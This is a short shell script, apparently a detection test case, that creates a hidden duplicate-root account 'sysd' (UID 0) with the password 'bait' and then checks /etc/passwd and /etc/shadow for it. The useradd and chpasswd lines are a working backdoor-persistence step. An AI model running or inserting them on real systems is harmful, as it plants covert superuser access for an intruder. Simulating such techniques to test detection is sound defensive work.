#!/bin/sh
. /opt/case/case.sh

useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysd
echo 'sysd:bait' | chpasswd
grep -q '^sysd:x:0:0:' /etc/passwd && grep -q '^sysd:\$' /etc/shadow
took_place
